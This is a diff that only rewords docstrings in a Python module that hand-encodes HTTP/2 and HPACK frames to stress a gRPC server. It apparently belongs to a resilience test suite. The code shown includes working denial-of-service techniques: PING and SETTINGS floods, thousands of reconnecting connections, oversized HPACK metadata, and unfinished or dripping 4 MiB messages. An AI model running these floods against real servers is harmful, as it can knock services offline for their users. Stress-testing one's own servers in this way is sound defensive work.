@@ -1,4 +1,4 @@
-"""Attacks below gRPC: frames of HTTP/2 (RFC 9113), metadata packed by HPACK (RFC 7541), by hand."""
+"""Attacks below gRPC: HTTP/2 frames (RFC 9113) and HPACK metadata (RFC 7541), encoded by hand."""
 
 import asyncio
 import struct
@@ -14,24 +14,24 @@ DATA, HEADERS, SETTINGS, PING, WINDOW_UPDATE = 0x0, 0x1, 0x4, 0x6, 0x8
 ACK = END_STREAM = 0x1
 END_HEADERS = 0x4
 INITIAL_WINDOW, USUAL_WINDOW = 0x4, 65535
-"""The setting of the window of a stream, and its value before it is set (RFC 9113 § 6.5.2)."""
+"""The setting for the window of a stream, and the value before it is set (RFC 9113 § 6.5.2)."""
 LARGEST_FRAME = 16384
 DATA_AT_ONCE = 2 * LARGEST_FRAME
-"""Bytes of one send, for which the window must have room: less than the initial window."""
+"""Number of bytes that are sent once the window has room for them; less than the initial window."""
 PING_BYTES = 8
 
 FRAMES = 5_000_000
 FRAMES_AT_ONCE = 1000
 CONNECTIONS = 5000
 ROUNDS = 50
-"""Maximum number of connections that one of several attackers makes one after the other."""
+"""Maximum number of connections that one of several attackers makes in succession."""
 
 CALLS = 200_000
 CALLS_AT_ONCE = 16
 COSTLY = ("a-bin", ",".join(["AA"] * 1333))
 """Metadata of 4,000 bytes, which fits into HPACK's table, with as many values as possible."""
 NAMED = 4
-"""Number of times that a call refers to them: more are refused for their size."""
+"""Number of times that a call refers to this metadata: more would be refused for their size."""
 HELD, HELD_BYTES = 100, 4 * 1024 * 1024
 DRIPPING = 4
 GET_SERVER = "/licorne.v1.State/GetServer"
@@ -46,7 +46,7 @@ def frame(kind: int, content: bytes = b"", stream: int = 0, flags: int = 0) -> b
 
 
 def number(prefix: int, bits: int, value: int) -> bytes:
-    """A number behind the first bits of a byte (RFC 7541 § 5.1)."""
+    """A number encoded behind the first bits of a byte (RFC 7541 § 5.1)."""
     most = (1 << bits) - 1
     if value < most:
         return bytes([prefix | value])
@@ -58,7 +58,7 @@ def number(prefix: int, bits: int, value: int) -> bytes:
 
 
 def text(value: str) -> bytes:
-    """A text as it is (RFC 7541 § 5.2)."""
+    """A text without compression (RFC 7541 § 5.2)."""
     return number(0, 7, len(value)) + value.encode()
 
 
@@ -80,10 +80,10 @@ def costly(*, first: bool) -> bytes:
 
 
 class Peer:
-    """One connection to the server, which follows its windows."""
+    """One connection to the server, which observes the flow control windows."""
 
     def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        """Greet the server; `read` has to run beside."""
+        """Greet the server; `read` has to run concurrently."""
         self._reader, self._writer = reader, writer
         self._window = {0: USUAL_WINDOW}
         self._initial = USUAL_WINDOW
@@ -98,12 +98,12 @@ class Peer:
         return frame(HEADERS, block, stream, END_HEADERS | flags)
 
     async def write(self, frames: bytes) -> None:
-        """Send frames that need no window, when the server reads."""
+        """Send frames for which no window is needed, once the server reads."""
         self._writer.write(frames)
         await self._writer.drain()
 
     async def data(self, stream: int, content: bytes, size: int) -> None:
-        """Send content in frames of `size` bytes, as the windows allow; returns when all is sent."""
+        """Send content in frames of `size` bytes, as the windows allow; returns when all of it is sent."""
         step = size * max(1, min(FRAMES_AT_ONCE, DATA_AT_ONCE // size))
         for start in range(0, len(content), step):
             some = content[start : start + step]
@@ -116,7 +116,7 @@ class Peer:
             await self.write(b"".join(frame(DATA, part, stream) for part in parts))
 
     async def read(self) -> None:
-        """Follow the windows until the server ends the connection."""
+        """Update the windows until the server ends the connection."""
         with suppress(asyncio.IncompleteReadError, ConnectionError):
             while True:
                 high, low, kind, flags, stream = HEADER.unpack(await self._reader.readexactly(HEADER.size))
@@ -143,11 +143,11 @@ class Peer:
 
 
 Acting = Callable[[Peer], Awaitable[None]]
-"""What a peer does on a new connection."""
+"""The actions of a peer on a new connection."""
 
 
 async def connected(site: Site, rounds: int, act: Acting) -> None:
-    """Act on one connection after the other; a connection cut by the server counts as a refusal."""
+    """Act on one connection after the other; a connection closed by the server counts as a refusal."""
     host, _, port = site.target.rpartition(":")
     for _ in range(rounds):
         reader, writer = await asyncio.open_connection(host, int(port))
@@ -168,7 +168,7 @@ async def connected(site: Site, rounds: int, act: Acting) -> None:
 
 
 async def at_once(site: Site, connections: Iterable[Acting]) -> None:
-    """As many connections at a time, each made anew after a cut."""
+    """Act on this number of connections at a time; each is replaced after the server has closed it."""
     await asyncio.gather(*(connected(site, ROUNDS, act) for act in connections))
 
 
@@ -199,7 +199,7 @@ many_costly = asynccontextmanager(metadata(20))
 
 @asynccontextmanager
 async def unfinished(site: Site) -> AsyncIterator[Act]:
-    """Messages of 4 MiB over as many connections, whose last bytes are never sent."""
+    """Messages of 4 MiB over many connections; the last bytes are never sent."""
 
     async def hold(peer: Peer) -> None:
         await peer.write(peer.begin(1, head(GET_SERVER)))
@@ -229,18 +229,18 @@ async def dripping(site: Site) -> AsyncIterator[Act]:
 
 @asynccontextmanager
 async def ping(site: Site) -> AsyncIterator[Act]:
-    """PING frames as fast as they are read, on a new connection after each cut."""
+    """PING frames as fast as the server reads them, on a new connection whenever one is closed."""
     yield lambda: flood(site, frame(PING, bytes(PING_BYTES)))
 
 
 @asynccontextmanager
 async def settings(site: Site) -> AsyncIterator[Act]:
-    """Empty SETTINGS frames as fast as they are read, on a new connection after each cut."""
+    """Empty SETTINGS frames as fast as the server reads them, on a new connection whenever one is closed."""
     yield lambda: flood(site, frame(SETTINGS))
 
 
 async def flood(site: Site, one: bytes) -> None:
-    """Send a frame repeatedly; a connection cut by the server counts as a refusal."""
+    """Send a frame repeatedly; a connection closed by the server counts as a refusal."""
 
     async def send(peer: Peer) -> None:
         while site.acts < site.part(FRAMES):
